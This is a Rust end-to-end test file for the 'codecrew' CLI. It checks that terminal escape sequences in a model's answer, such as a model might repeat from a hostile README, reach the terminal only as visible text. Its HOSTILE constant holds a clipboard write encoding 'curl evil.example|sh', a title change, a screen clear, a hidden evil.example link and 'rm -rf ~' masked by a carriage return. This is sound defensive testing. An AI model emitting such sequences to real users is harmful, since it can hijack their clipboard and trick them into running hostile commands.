//! What the model writes never acts on the person's terminal: the escape sequences a
//! hostile README can make it repeat (the clipboard, the window title, a cleared screen, a
//! hidden link, a terminal query, the 8-bit forms, a carriage return that overwrites)
//! reach the terminal as visible text, through every text output path and every CLI;
//! `--output json` keeps the exact text for scripts.

use super::live::Tmux;
use super::*;

/// What a model that read a hostile file may be made to write, cut into 3-character
/// chunks by the fake so that each sequence is split across stream pieces.
const HOSTILE: &str = "Summary done.\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\
    \u{1b}]0;pwned-title\u{1b}\\\u{1b}[2J\u{1b}]8;;https://evil.example/\u{1b}\\docs\
    \u{1b}]8;;\u{1b}\\\u{1b}P+q544e\u{1b}\\\u{9b}31m\u{9d}0;c1-title\u{9c}\
    \nrm -rf ~\rls  \u{7f}\nVisible answer.";

/// Every byte a terminal would act on: C0 controls but newline and tab, DEL, C1.
fn controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
        .collect()
}

fn hostile_script() -> Script {
    Script::new()
        .chunk_size(3)
        .on_prompt("E2E-ESCAPES", Reply::text(HOSTILE))
}

/// `--color never`: nothing codecrew sends may act on a terminal.
fn assert_inert(run: &CliRun, what: &str) {
    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        assert!(
            controls(text).is_empty(),
            "{what}: {stream} carries {:?}:\n{text}",
            controls(text)
        );
    }
}

per_cli!(no_clis_answer_acts_on_the_terminal_and_the_answer_still_shows);

fn no_clis_answer_acts_on_the_terminal_and_the_answer_still_shows(agent: &str) {
    let Some(world) = World::new(&format!("e2e-escapes-{agent}"), hostile_script()) else {
        return;
    };
    let task = format!("@{agent} E2E-ESCAPES");
    let run = world.codecrew(&["--color", "never", "query", &task]);
    run.assert_code(0);
    assert_inert(&run, agent);
    assert!(
        run.stdout.contains("Visible answer."),
        "{agent}: {}",
        run.stdout
    );
    assert!(
        run.stdout.contains("Summary done."),
        "{agent}: {}",
        run.stdout
    );
}

#[test]
fn the_sequences_are_shown_as_visible_text() {
    let Some(world) = World::new("e2e-escapes-shown", hostile_script()) else {
        return;
    };
    // The sequences themselves are shown, so the reader sees what the model tried.
    let run = world.codecrew(&["--color", "never", "query", "@claude E2E-ESCAPES"]);
    for shown in [
        "^[]52;c;Y3Vy",
        "^[]0;pwned-title",
        "^[[2J",
        "\\u{9b}31m",
        "~^Mls",
    ] {
        assert!(run.stdout.contains(shown), "{shown} in\n{}", run.stdout);
    }
}

#[test]
fn two_agents_raw_answers_and_stored_threads_are_inert_and_json_is_exact() {
    let Some(world) = World::new("e2e-escapes-paths", hostile_script()) else {
        return;
    };
    // Two agents at once: their `[agent]` lines.
    let run = world.codecrew(&["--color", "always", "query", "@claude @gemini E2E-ESCAPES"]);
    run.assert_code(0);
    // Styled, the only escapes are codecrew's own SGR styles.
    let unstyled = strip_sgr(&run.stdout);
    assert!(controls(&unstyled).is_empty(), "{unstyled:?}");
    assert!(unstyled.contains("[claude] Visible answer."), "{unstyled}");
    assert!(unstyled.contains("[gemini] Visible answer."), "{unstyled}");
    // `--raw`, and a thread's stored answer shown again.
    let raw = world.codecrew(&[
        "--color",
        "never",
        "query",
        "--raw",
        "--thread",
        "notes",
        "@codex E2E-ESCAPES",
    ]);
    raw.assert_code(0);
    assert_inert(&raw, "--raw");
    assert!(raw.stdout.contains("Visible answer."), "{}", raw.stdout);
    let shown = world.codecrew(&["--color", "never", "threads", "show", "notes"]);
    shown.assert_code(0);
    assert_inert(&shown, "threads show");
    assert!(shown.stdout.contains("^[]52;c;"), "{}", shown.stdout);
    // The way to the exact text: JSON, whose strings escape every control.
    let (run, document) = world.json("query", &["@claude E2E-ESCAPES"]);
    run.assert_code(0);
    assert!(controls(&run.stdout).is_empty(), "{}", run.stdout);
    assert_eq!(result(&document)["response"], HOSTILE);
    let stored = world.codecrew(&["threads", "show", "notes", "--output", "json"]);
    let stored: Value = serde_json::from_str(&stored.stdout).unwrap();
    assert_eq!(stored["exchanges"][0]["answer"], HOSTILE);
}

#[test]
fn an_error_from_the_model_server_is_inert() {
    let script = Script::new().on_prompt(
        "E2E-ESCAPES-ERROR",
        Reply::error(400, "bad request \u{1b}]0;pwned\u{7}\u{1b}[2J \u{9b}1m end"),
    );
    let Some(world) = World::new("e2e-escapes-error", script) else {
        return;
    };
    for agent in ["claude", "gemini", "codex", "opencode"] {
        let task = format!("@{agent} E2E-ESCAPES-ERROR");
        let run = world.codecrew(&["--color", "never", "query", "--timeout", "60", &task]);
        assert!(!run.status.success(), "{agent}: {}", run.stderr);
        assert_inert(&run, agent);
    }
}

/// At a real terminal (tmux, whose clipboard and title the sequences would set), the
/// bytes the terminal got hold no sequence but codecrew's own styles and its live view's.
#[test]
fn at_a_terminal_the_clipboard_title_and_screen_stay_the_users() {
    let Some(world) = World::new("e2e-escapes-tty", hostile_script()) else {
        return;
    };
    let received = world.home.root().join("terminal.bytes");
    let codecrew = env!("CARGO_BIN_EXE_codecrew");
    let command = format!(
        "sleep 1; {codecrew} --color always query '@claude @gemini E2E-ESCAPES'; \
         {codecrew} --color always query '@claude E2E-ESCAPES'; \
         {codecrew} threads show missing-thread; echo ESC-EXIT=$?; sleep 60"
    );
    let socket = format!("codecrew-escapes-{}", std::process::id());
    let Some(tmux) = Tmux::start(&world, &socket, &command) else {
        return;
    };
    // Sequences from the program would reach tmux's own clipboard and the pane title.
    tmux.command(&["set-option", "-g", "set-clipboard", "on"]);
    tmux.command(&["set-option", "-g", "allow-rename", "on"]);
    tmux.command(&["pipe-pane", "-o", &format!("cat >> {}", received.display())]);
    let screen = tmux.wait_for("the end", |screen| screen.contains("ESC-EXIT="));
    let title = tmux.command(&["display-message", "-p", "#{pane_title}"]);
    let title = String::from_utf8_lossy(&title.stdout);
    assert!(!title.contains("pwned"), "the title was set: {title}");
    let buffers = tmux.command(&["list-buffers"]);
    let buffers = String::from_utf8_lossy(&buffers.stdout);
    assert!(
        buffers.trim().is_empty(),
        "the clipboard was written: {buffers}"
    );
    assert!(screen.contains("Visible answer."), "{screen}");
    assert!(screen.contains("^[]52;c;"), "{screen}");
    let bytes = std::fs::read(&received).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert!(text.contains("Visible answer."), "{text:?}");
    for sequence in [
        "\u{1b}]",
        "\u{1b}P",
        "\u{1b}[2J",
        "\u{9b}",
        "\u{9d}",
        "~\rls",
    ] {
        assert!(
            !text.contains(sequence),
            "{sequence:?} reached the terminal: {text:?}"
        );
    }
}

/// `text` without SGR sequences (`ESC [ … m`), codecrew's styles.
fn strip_sgr(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("\u{1b}[") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        match after.find(|c: char| !(c.is_ascii_digit() || c == ';')) {
            Some(end) if after[end..].starts_with('m') => rest = &after[end + 1..],
            _ => {
                out.push('\u{1b}');
                rest = &rest[start + 1..];
            }
        }
    }
    out.push_str(rest);
    out
}
